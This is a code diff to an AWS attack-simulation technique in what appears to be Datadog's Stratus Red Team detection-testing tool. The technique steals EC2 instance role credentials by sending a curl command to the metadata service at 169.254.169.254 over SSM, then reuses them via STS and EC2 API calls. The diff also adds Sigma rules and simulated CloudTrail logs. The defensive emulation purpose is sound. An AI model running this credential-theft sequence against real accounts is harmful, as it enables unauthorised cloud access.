@@ -1,7 +1,6 @@
 package aws
 
 import (
-	"context"
 	_ "embed"
 	"encoding/json"
 	"errors"
@@ -10,17 +9,19 @@ import (
 	"github.com/aws/aws-sdk-go-v2/service/ssm"
 	"github.com/aws/aws-sdk-go-v2/service/ssm/types"
 	"github.com/aws/aws-sdk-go-v2/service/sts"
-	"github.com/datadog/stratus-red-team/internal/providers"
 	"github.com/datadog/stratus-red-team/internal/utils"
 	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/logs"
 	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
-	"log"
 	"time"
 )
 
 //go:embed main.tf
 var tf []byte
 
+//go:embed sigma.yml
+var sigma []byte
+
 func init() {
 	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
 		ID:           "aws.credential-access.ec2-steal-instance-credentials",
@@ -49,27 +50,30 @@ GuardDuty provides two findings to identify stolen EC2 instance credentials.
 
 See also: [Known detection bypasses](https://hackingthe.cloud/aws/avoiding-detection/steal-keys-undetected/).
 `,
+		SigmaRules:                 sigma,
 		Platform:                   stratus.AWS,
 		IsIdempotent:               true,
 		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.CredentialAccess},
 		PrerequisitesTerraformCode: tf,
+		RequiredOutputs:            []string{"instance_id", "instance_role_name"},
 		Detonate:                   detonate,
+		Simulate:                   simulate,
 	})
 }
 
-func detonate(params map[string]string) error {
-	ssmClient := ssm.NewFromConfig(providers.AWS().GetConnection())
-	instanceId := params["instance_id"]
-	instanceRoleName := params["instance_role_name"]
+func detonate(execution *stratus.ExecutionContext) error {
+	ssmClient := ssm.NewFromConfig(execution.AWS.GetConnection())
+	instanceId := execution.Parameters["instance_id"]
+	instanceRoleName := execution.Parameters["instance_role_name"]
 
-	if err := waitForInstanceToRegisterInSSM(ssmClient, instanceId); err != nil {
+	if err := waitForInstanceToRegisterInSSM(execution, ssmClient, instanceId); err != nil {
 		return err
 	}
 
 	command := "curl 169.254.169.254/latest/meta-data/iam/security-credentials/" + instanceRoleName + "/"
 
-	log.Println("Running command through SSM on " + instanceId + ": " + command)
-	result, err := ssmClient.SendCommand(context.Background(), &ssm.SendCommandInput{
+	execution.Logger.Println("Running command through SSM on " + instanceId + ": " + command)
+	result, err := ssmClient.SendCommand(execution.Context, &ssm.SendCommandInput{
 		DocumentName: aws.String("AWS-RunShellScript"),
 		InstanceIds:  []string{instanceId},
 		Parameters: map[string][]string{
@@ -80,7 +84,7 @@ func detonate(params map[string]string) error {
 		return errors.New("unable to send SSM command to instance: " + err.Error())
 	}
 
-	commandResult, err := ssm.NewCommandExecutedWaiter(ssmClient).WaitForOutput(context.Background(), &ssm.GetCommandInvocationInput{
+	commandResult, err := ssm.NewCommandExecutedWaiter(ssmClient).WaitForOutput(execution.Context, &ssm.GetCommandInvocationInput{
 		CommandId:  result.Command.CommandId,
 		InstanceId: &instanceId,
 	}, 2*time.Minute)
@@ -95,23 +99,23 @@ func detonate(params map[string]string) error {
 		return errors.New("unable to parse response from instance metadata " + err.Error())
 	}
 
-	newAwsConnection := utils.AwsConfigFromCredentials(
+	newAwsConnection := execution.AWS.GetConnectionWithCredentials(
 		metadataResponse["AccessKeyId"],
 		metadataResponse["SecretAccessKey"],
 		metadataResponse["Token"],
 	)
 	newStsClient := sts.NewFromConfig(newAwsConnection)
-	response, _ := newStsClient.GetCallerIdentity(context.Background(), &sts.GetCallerIdentityInput{})
+	response, _ := newStsClient.GetCallerIdentity(execution.Context, &sts.GetCallerIdentityInput{})
 	if response.Arn == nil {
 		return errors.New("failed to retrieve instance profile credentials (could not run sts:GetCallerIdentity using stolen credentials")
 	}
 
-	log.Println("Successfully stole temporary instance credentials from the instance metadata service")
-	log.Println("sts:GetCallerIdentity returned " + *response.Arn)
+	execution.Logger.Println("Successfully stole temporary instance credentials from the instance metadata service")
+	execution.Logger.Println("sts:GetCallerIdentity returned " + *response.Arn)
 	// Make a benign API call (ec2:DescribeInstances) using these credentials
 	newEc2Client := ec2.NewFromConfig(newAwsConnection)
-	log.Println("Locally running a benign API call ec2:DescribeInstances using stolen credentials")
-	_, err = newEc2Client.DescribeInstances(context.Background(), &ec2.DescribeInstancesInput{})
+	execution.Logger.Println("Locally running a benign API call ec2:DescribeInstances using stolen credentials")
+	_, err = newEc2Client.DescribeInstances(execution.Context, &ec2.DescribeInstancesInput{})
 
 	if err != nil {
 		return errors.New("could not use stolen instance credentials to perform further AWS API calls: " + err.Error())
@@ -121,10 +125,10 @@ func detonate(params map[string]string) error {
 
 // waitForInstanceToRegisterInSSM waits for an instance to be registered in SSM
 // may be slow (60+ seconds)
-func waitForInstanceToRegisterInSSM(ssmClient *ssm.Client, instanceId string) error {
-	log.Println("Waiting for instance " + instanceId + " to show up in AWS SSM")
+func waitForInstanceToRegisterInSSM(execution *stratus.ExecutionContext, ssmClient *ssm.Client, instanceId string) error {
+	execution.Logger.Println("Waiting for instance " + instanceId + " to show up in AWS SSM")
 	for {
-		result, err := ssmClient.DescribeInstanceInformation(context.Background(), &ssm.DescribeInstanceInformationInput{
+		result, err := ssmClient.DescribeInstanceInformation(execution.Context, &ssm.DescribeInstanceInformationInput{
 			Filters: []types.InstanceInformationStringFilter{
 				{Key: aws.String("InstanceIds"), Values: []string{instanceId}},
 			},
@@ -139,10 +143,31 @@ func waitForInstanceToRegisterInSSM(ssmClient *ssm.Client, instanceId string) er
 		// we're good to go!
 		instances := result.InstanceInformationList
 		if len(instances) == 1 && instances[0].PingStatus == types.PingStatusOnline {
-			log.Println("Instance " + instanceId + " is ready to go in SSM")
+			execution.Logger.Println("Instance " + instanceId + " is ready to go in SSM")
 			return nil
 		}
 
 		time.Sleep(1 * time.Second)
 	}
 }
+
+// simulate generates the CloudTrail events of the SSM command stealing the credentials, and of the API calls made with
+// the stolen credentials from outside of the instance
+func simulate(simulation *stratus.SimulationContext) []stratus.LogRecord {
+	instanceId := "i-" + utils.RandomHexString(8)
+	sendCommand := logs.CloudTrailEvent(simulation, "ssm.amazonaws.com", "SendCommand", map[string]interface{}{
+		"documentName": "AWS-RunShellScript",
+		"instanceIds":  []string{instanceId},
+		"parameters":   "HIDDEN_DUE_TO_SECURITY_REASONS",
+	})
+
+	identity := logs.AWSIdentity(simulation.AccountID, logs.AWSAssumedRoleArn(simulation.AccountID, "stratus-red-team-ec2-steal-credentials-role", instanceId))
+	getCallerIdentity := logs.CloudTrailEvent(simulation, "sts.amazonaws.com", "GetCallerIdentity", nil)
+	getCallerIdentity["userIdentity"] = identity
+	describeInstances := logs.CloudTrailEvent(simulation, "ec2.amazonaws.com", "DescribeInstances", map[string]interface{}{
+		"instancesSet": map[string]interface{}{},
+		"filterSet":    map[string]interface{}{},
+	})
+	describeInstances["userIdentity"] = identity
+	return []stratus.LogRecord{sendCommand, getCallerIdentity, describeInstances}
+}